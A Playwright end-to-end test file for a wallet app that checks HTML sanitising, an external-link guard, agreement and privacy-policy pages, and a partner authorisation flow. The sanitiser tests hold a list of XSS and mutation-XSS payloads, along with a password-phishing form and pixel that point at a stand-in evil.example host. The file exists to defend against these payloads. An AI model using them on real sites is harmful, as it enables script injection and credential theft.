import type { Page, Request } from '@playwright/test';
import { open } from './support/steps';
import { expect, test } from './support/test';
import { lin, tokenOf } from './support/world';

const yunshan = 'https://health.yunshan.example';
const requestHash = (parameters: Record<string, string>) =>
  `/AuthorizePage?${new URLSearchParams(parameters).toString()}`;

/** Outside addresses answer with an empty page; returns the requests to them. */
async function answerOutside(page: Page): Promise<Request[]> {
  const asked: Request[] = [];
  await page.context().route(/^https?:\/\/[^/]*\.example\//, async (route) => {
    asked.push(route.request());
    await route.fulfill({ contentType: 'text/html', body: '<title>outside</title>' });
  });
  return asked;
}

test.describe('HTML from a gateway, in a real browser', () => {
  // The page's policy would stop most of it as well, so it is bypassed to test the sanitiser alone.
  test.use({ bypassCSP: true });
  const attacks = [
    '<script>window.hit = 1</script>',
    '<img src=x onerror="window.hit = 1">',
    '<svg onload="window.hit = 1"><animate onbegin="window.hit = 1" attributeName=x dur=1s></svg>',
    '<svg><style><img src=x onerror="window.hit = 1"></style></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hit=1&gt;">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror="window.hit = 1">',
    '<iframe srcdoc="<script>parent.hit = 1</script>"></iframe>',
    '<details open ontoggle="window.hit = 1"><summary>x</summary></details>',
    '<input autofocus onfocus="window.hit = 1"><video><source onerror="window.hit = 1"></video>',
    '<a href="javascript:window.hit=1">javascript</a><a href=" java\tscript:window.hit=1">tab</a>',
    '<a href="data:text/html,<script>window.hit=1</script>">data</a>',
    '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;background:#fff">盖住</div>',
    '<form action="https://evil.example/"><input type="password" name="p"><button>支付密码</button></form>',
    '<img src="https://evil.example/pixel.png"><link rel="stylesheet" href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">',
    '<noscript><p title="</noscript><img src=x onerror=window.hit=1>"></noscript>',
    '<table><td><b><i></table></b><p>没有关好<h1>标题',
  ];

  test('runs nothing, fetches nothing and covers nothing', async ({ page, world }) => {
    const imageTxt = attacks.map((attack, place) => ({
      windowId: `X${place}`,
      windowType: 2,
      windowTxt: `<p>开头 ${place}</p>${attack}`,
    }));
    await world.alter((state) => ({ ...state, popups: { ...state.popups, imageTxt } }));
    await open(page, '/popupDetails?id=nothing');
    await expect(page.getByText('没有找到这条通知')).toBeVisible();
    for (const [place] of attacks.entries()) {
      await page.goto(`/#/popupDetails?id=X${place}`);
      const article = page.getByRole('article');
      await expect(article.getByText(`开头 ${place}`, { exact: true })).toBeVisible();
      const links = article.getByRole('link');
      for (let link = 0; link < (await links.count()); link += 1) await links.nth(link).click();
      const left = await article.evaluate((element) => ({
        bad: element.querySelectorAll(
          'script, style, iframe, form, input, video, object, embed, link, meta, base, math, [style], [onerror], [onload], [href]',
        ).length,
        // The envelope's own drawings belong to the page.
        foreign: element.querySelectorAll('svg animate, svg style, img[src^="https:"]').length,
        hit: 'hit' in window,
      }));
      expect(left, attacks[place]).toEqual({ bad: 0, foreign: 0, hit: false });
    }
  });

  test('opens links through the external link guard, by tap and by key, and never by itself', async ({
    page,
    world,
  }) => {
    await world.reset('popups');
    await open(page, '/popupDetails?id=P000');
    await page.getByRole('link', { name: '活动说明' }).click();
    await expect(page.getByRole('dialog', { name: '要离开龙币钱包吗' })).toContainText(
      'help.longcoin.example',
    );
    await page.getByRole('button', { name: '留在这里' }).click();
    await page.getByRole('link', { name: '转账' }).focus();
    await page.keyboard.press('Enter');
    await expect(page).toHaveURL(/#\/transfer1$/);
    await page.goBack();
    await expect(page.getByRole('heading', { name: '国庆送龙币' })).toBeVisible();
  });
});

test.describe('the redemption agreement', () => {
  test('can be read to its end, accepted, found accepted after a reload, and withdrawn from', async ({
    page,
  }) => {
    await open(page, '/settingAuth3');
    const agree = page.getByRole('button', { name: '同意免密兑换' });
    await expect(agree).toBeDisabled();
    await page.getByRole('heading', { name: '四、什么时候仍会要密码' }).scrollIntoViewIfNeeded();
    await expect(agree).toBeDisabled();
    await page.mouse.wheel(0, 10_000);
    await expect(page.getByText('已读到结尾')).toBeVisible();
    await agree.click();
    await expect(page.getByText(/你在 .* 同意了 1\.3 版/)).toBeVisible();
    await page.reload();
    await page.getByRole('button', { name: '收回同意' }).click();
    await page.getByRole('dialog').getByRole('button', { name: '收回同意' }).click();
    await expect(page.getByText('还没有同意')).toBeVisible();
  });

  test('can be read to its end by the keyboard alone', async ({ page }) => {
    await page.emulateMedia({ reducedMotion: 'reduce' });
    await open(page, '/settingAuth3');
    const on = page.getByRole('button', { name: '往下读' });
    await expect(on).toBeVisible();
    await expect(page.getByRole('heading', { name: '八、协议的更新' })).toBeAttached();
    await on.focus();
    for (let press = 0; press < 12 && (await on.isVisible()); press += 1) {
      await page.keyboard.press('Enter');
      // Scrolling, the observer and the button need a frame each, and the next key press must not meet the next
      // button.
      await page.waitForFunction(
        () =>
          new Promise((done) =>
            requestAnimationFrame(() => requestAnimationFrame(() => requestAnimationFrame(() => done(true)))),
          ),
      );
    }
    await expect(page.getByRole('button', { name: '同意免密兑换' })).toBeEnabled();
  });

  test('counts as read at once on a screen that shows all of it', async ({ page }) => {
    await page.setViewportSize({ width: 390, height: 3_000 });
    await open(page, '/settingAuth3');
    await expect(page.getByRole('button', { name: '同意免密兑换' })).toBeEnabled();
  });
});

test('the privacy policy can be read without a session, and again offline', async ({
  page,
  context,
  browserErrors,
}) => {
  browserErrors.allow(/net::ERR_INTERNET_DISCONNECTED/);
  await page.goto('/#/settingAuth2');
  await expect(page.getByText('2.1 版 · 2026-10-15 起生效')).toBeVisible();
  await page.getByText('目录 · 共 8 节').click();
  await page.getByRole('button', { name: '八、联系我们' }).click();
  await expect(page.getByRole('heading', { name: '八、联系我们' })).toBeInViewport();
  // Another visit has only what is stored on the device.
  await page.goto('/#/nowhere');
  await page.reload();
  await expect(page.getByText('没有找到这个页面').last()).toBeVisible();
  await context.setOffline(true);
  await page.evaluate(() => {
    window.location.hash = '/settingAuth2';
  });
  await expect(page.getByRole('heading', { name: '三、交给别人的信息' })).toBeVisible();
  await expect(page.getByText(/^没能取到最新版本/)).toBeVisible();
});

test.describe('an authorisation request of a partner', () => {
  test('leads back with a key that was never in the address or the storage of the app', async ({
    page,
    browserErrors,
  }) => {
    browserErrors.allow(/foreign host: https:\/\/health\.yunshan/);
    const asked = await answerOutside(page);
    await open(page, requestHash({ appId: 'yunshan', redirectUrl: `${yunshan}/back`, state: '7' }));
    await page.getByRole('checkbox').click();
    await page.getByRole('button', { name: '同意并返回' }).click();
    await page.getByRole('button', { name: '前往 health.yunshan.example' }).click();
    await expect(page).toHaveURL(
      /^https:\/\/health\.yunshan\.example\/back\?key=key-LX100001-[^&]+&state=7$/,
    );
    const key = new URL(page.url()).searchParams.get('key') ?? '';
    expect(asked.map((request) => request.url()).join()).not.toContain(tokenOf(lin));
    expect(asked[0]?.headers()['referer']).toBeUndefined();
    await page.goBack();
    await expect(page.getByRole('heading', { name: '你已授权云杉健康' })).toBeVisible();
    const held = await page.evaluate(() =>
      JSON.stringify([
        window.location.href,
        window.history.state,
        Object.entries(localStorage),
        Object.entries(sessionStorage),
      ]),
    );
    expect(held).not.toContain(key);
    await page.goto('/#/settingAuth');
    await expect(page.getByRole('button', { name: /云杉健康/ }).first()).toContainText('资料');
  });
});
